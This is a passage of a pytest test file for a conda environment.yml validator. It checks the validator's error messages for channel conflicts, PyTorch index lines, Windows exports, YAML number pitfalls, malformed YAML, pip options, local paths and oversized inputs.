    spec = SpecPolicy().parse("channels: [defaults, nodefaults]\ndependencies: [numpy]\n")
    assert spec.channels == ("defaults", "nodefaults")
    assert spec.notes == ("channels (line 1): lists both 'defaults' and 'nodefaults', which means \"not defaults\": "
                          "'defaults' is used all the same; remove the one you did not mean",)
    member = SpecPolicy().parse("name: x\nchannels:\n  - nodefaults\n  - pkgs/main\ndependencies: [numpy]\n")
    assert member.notes == ("channels (line 3): lists both 'pkgs/main' and 'nodefaults', which means \"not "
                            "defaults\": 'pkgs/main' is used all the same; remove the one you did not mean",)
    assert SpecPolicy().parse("channels: [conda-forge, nodefaults]\ndependencies: [numpy]\n").notes == ()
    assert SpecPolicy().parse("channels: [conda-forge, defaults]\ndependencies: [numpy]\n").notes == ()


@pytest.mark.parametrize("line, conda", [
    ("torch==2.1.0+cu121", "pytorch-cuda=12.1"),
    ("torchvision==0.15.2+cpu", "cpuonly"),
    ("--index-url https://download.pytorch.org/whl/cu118", "pytorch-cuda=11.8"),
    ("--extra-index-url https://download.pytorch.org/whl/nightly/cu124", "pytorch-cuda=12.4"),
])
def test_pytorch_wheel_index_traps_point_to_the_conda_channels(line, conda):
    message = refusal(f"dependencies:\n - python\n - pip:\n   - {line}\n")
    assert "PyTorch's own index" in message and "channels pytorch and nvidia" in message and conda in message


def test_a_linux_export_with_builds_is_not_taken_for_windows():
    spec = parse((CORPUS / "good" / "export-with-prefix.yml").read_bytes())
    assert spec.conda
    assert "Windows export (m2w64-gcc-libs" in refusal("dependencies: [python=3.9, m2w64-gcc-libs=5.3.0=7]")


@pytest.mark.parametrize("text", [
    "dependencies:\n  - {" + ", ".join(f"k{i}: 1" for i in range(500)) + "}\n",
    "dependencies:\n  - numpy: " + "1" * 10000 + "\n",
    "dependencies:\n  - " + "k" * 1000 + ": 1\n",
    "dependencies" + "x" * 900 + ": - numpy\n",
    "dependencies:\n  - " + "a" * 100 + "{" + "a" * 90 + "\n",  # the parsers' own words quote it twice
    "dependencies:\n  - pip:\n    - " + "a" * 100 + "{" + "a" * 90 + "\n",
], ids=["mapping-of-many-keys", "mapping-of-a-long-value", "mapping-of-a-long-key", "item-after-a-long-key",
        "matchspec-error", "packaging-error"])
def test_what_the_user_wrote_is_shown_shortened_in_every_refusal(text):
    assert all(len(line) < 400 for line in refused(text).details)


@pytest.mark.parametrize("number", ["1" * 5000, "0x" + "f" * 5000, ":".join(["59"] * 3000), "1" * 1000],
                         ids=["int-past-python-digits", "hex-past-python-digits", "sexagesimal", "long-int"])
@pytest.mark.parametrize("where", ["channels:\n  - {}\ndependencies: [numpy]\n", "dependencies:\n  - {}\n",
                                   "dependencies:\n  - pip:\n    - {}\n"], ids=["channel", "conda", "pip"])
def test_an_entry_yaml_reads_as_a_huge_number_is_refused_in_one_short_line(number, where):
    started = time.perf_counter()
    (line,) = refused(where.format(number)).details
    assert "is read by YAML as the number" in line and len(line) < 400
    assert time.perf_counter() - started < 1.0


def refused(text: str) -> SpecError:
    with pytest.raises(SpecError) as info:
        parse(text)
    return info.value


@pytest.mark.parametrize("text", ["numpy==1.26.4\npandas>=2\n", "- numpy\n- pandas\n"],
                         ids=["requirements.txt", "bare-list"])
def test_a_list_of_packages_without_keys_is_told_where_it_goes(text):
    assert refusal(text) == ("env.yml: line 1: the top level must be a mapping (name:, channels:, dependencies:): "
                             "list conda packages under 'dependencies:', and pip's (a requirements.txt) under "
                             "'- pip:' in it")


def test_a_windows_export_of_many_windows_packages_names_a_few_on_its_line():
    # An R environment exported on Windows brings dozens of m2w64-* packages.
    packages = "".join(f"  - m2w64-lib{i}=5.3.0=7\n" for i in range(30))
    message = refusal(f"dependencies:\n  - r-base=4.1=h_0\n{packages}")
    assert message.startswith("env.yml: dependencies (line 3): a Windows export (m2w64-lib0, m2w64-lib1, m2w64-lib2, "
                              "m2w64-lib3, m2w64-lib4 and 25 more exist only for Windows): export")
    assert len(message) < 400


@pytest.mark.parametrize("entry, refused", [
    ("3.10", "'3.10' is read by YAML as the number 3.1,"), ("42", "'42' is read by YAML as the number 42,"),
    ("yes", "'yes' is read by YAML as true/false"), ("1.0", "'1.0' is read by YAML as the number 1.0,"),
    ("'3.10'", None), ('"42"', None), ("python=3.10", None),
])
def test_entries_yaml_reads_as_numbers_must_be_quoted(entry, refused):
    text = f"channels: [conda-forge]\ndependencies:\n  - {entry}\n"
    if refused is None:
        assert parse(text).conda
    else:
        assert refused in refusal(text)
        assert "quote it" in refusal(text)


@pytest.mark.parametrize("spec", ["numpy=1.26.", "numpy 1.2 3 4", "scipy=1.11.4=(important", "numpy=1.26=.."])
def test_build_strings_conda_refuses_are_refused(spec):
    assert "dependencies[0] (line 1)" in refusal(f"dependencies: [{spec!r}]".replace("'", '"'))


@pytest.mark.parametrize("spec", ["numpy=1.26=py39h1234_0", "pytorch=2.0=*cuda*", "libblas=*=*openblas",
                                  "pkg=1.0=h1+2_0", "numpy=1.26.*"])
def test_real_build_strings_are_accepted(spec):
    assert parse(f"dependencies: [{spec!r}]").conda


@pytest.mark.parametrize("text, expected", [
    ("name: x\nchannels:\n  - conda-forge\ndependencies\n  - numpy\n",
     "invalid YAML at line 4, column 1: 'dependencies' needs a ':' after it"),
    ("dependencies:\n  - numpy\n  - 'scipy\n",
     "invalid YAML at line 3, column 5: the quote opened here is never closed"),
    ("dependencies: {a: 1\n", "invalid YAML at line 1, column 15: the '{' opened here is never closed"),
    ("dependencies:\n  - numpy\n  pip:\n    - x\n", "invalid YAML at line 3, column 3: this line's indentation"),
    ("name: a: b\ndependencies: [numpy]\n", "invalid YAML at line 1, column 8: unexpected ':'"),
    # the first key lacks its ':': YAML reads on to the next key's ':' before it fails
    ("channels\n  - conda-forge\ndependencies:\n  - numpy\n",
     "invalid YAML at line 1, column 1: 'channels' needs a ':' after it"),
    ("# my env\n\nname x\nchannels: [conda-forge]\ndependencies: [numpy]\n",
     "invalid YAML at line 3, column 1: 'name x' needs a ':' after it"),
    ("dependencies: [numpy]\n---\nname: x\n",
     "invalid YAML at line 2, column 1: a second YAML document starts here ('---'): an environment.yml is one "
     "document: remove the '---' line (and merge what follows)"),
    # what `conda list --explicit` writes: package URLs, not an environment.yml
    ("# platform: linux-64\n@EXPLICIT\nhttps://conda.anaconda.org/conda-forge/linux-64/numpy-1.26.4-0.conda\n",
     "invalid YAML at line 2, column 1: a `conda list --explicit` file, not an environment.yml: write one, or "
     "export it with `conda env export --from-history`"),
    ("dependencies:\n  - @jupyter/lab\n", "invalid YAML at line 2, column 5: '@' cannot start a value: quote it"),
])
def test_yaml_errors_point_at_the_place_to_fix(text, expected):
    assert refusal(text).startswith(f"env.yml: {expected}")


def test_a_hash_after_an_environment_marker_is_kept_apart_from_it():
    digest = "ab" * 32
    line = f"Rich[Jupyter]==13.7.0; python_version >= '3.9' --hash=sha256:{digest}"
    spec = parse(f'dependencies:\n - pip:\n   - "{line}"\n')
    assert spec.pip == (f'rich[jupyter]==13.7.0; python_version >= "3.9" --hash=sha256:{digest}',)
    assert parse(spec.to_yaml()) == spec


def test_an_option_after_a_package_says_to_list_the_package_alone_and_anaconda_is_named_as_defaults():
    assert refusal("dependencies:\n  - pip:\n    - dipy --only-binary dipy\n").endswith(
        "'dipy --only-binary dipy': pip options (--only-binary) are not allowed: list 'dipy' alone")
    assert "'anaconda' is not an allowed channel (it is one of Anaconda's defaults channels: write 'defaults')" in \
        refusal("channels: [anaconda]\ndependencies: [numpy]\n")
    assert "'default' is not an allowed channel (did you mean 'defaults'?)" in \
        refusal("channels: [default]\ndependencies: [numpy]\n")
    # listed beside defaults, as a real file does: writing 'defaults' there would list it twice
    assert "'anaconda' is not an allowed channel (it is one of Anaconda's defaults channels, and 'defaults' is " \
        "listed: remove it)" in refusal("channels: [anaconda, conda-forge, defaults]\ndependencies: [numpy]\n")


@pytest.mark.parametrize("entry", [".", "..", "'-'", "_"])
def test_an_entry_whose_name_has_no_letter_or_digit_names_no_package(entry):
    """MatchSpec takes '.', '..' or '-' as a package name; no package is called that, and the
    solve would fail on it later with 'no candidates'."""
    message = refusal(f"dependencies:\n  - python=3.9\n  - {entry}\n")
    assert message.startswith("env.yml: dependencies[1] (line 3): ") and message.endswith(" names no package")


def test_an_empty_pip_section_is_noted_with_where_its_packages_go():
    """`- pip:` whose '- package' lines were not indented below it: they are conda packages then,
    and pip installs nothing. Accepted (conda accepts it), with a note saying so."""
    spec = SpecPolicy().parse("dependencies:\n  - python=3.9\n  - pip:\n  - cs-alpha\n", source="env.yml")
    assert spec.pip == () and "cs-alpha" in spec.conda
    assert spec.notes == ("dependencies[1] (line 3): '- pip:' lists no packages (pip installs nothing): its "
                          "'- package' lines go indented below it",)
    assert SpecPolicy().parse("dependencies: [python=3.9, {pip: []}]\n").notes[0].endswith("go indented below it")
    assert SpecPolicy().parse("dependencies: [python=3.9, {pip: [requests]}]\n").notes == ()


def test_a_windows_path_in_pip_is_named_a_local_path():
    message = refusal("dependencies:\n  - python=3.9\n  - pip:\n    - 'C:\\pkg\\tool'\n")
    assert message == "env.yml: dependencies[1].pip[0] (line 4): 'C:\\\\pkg\\\\tool': local paths are not allowed; " \
                      "name a package from the index"
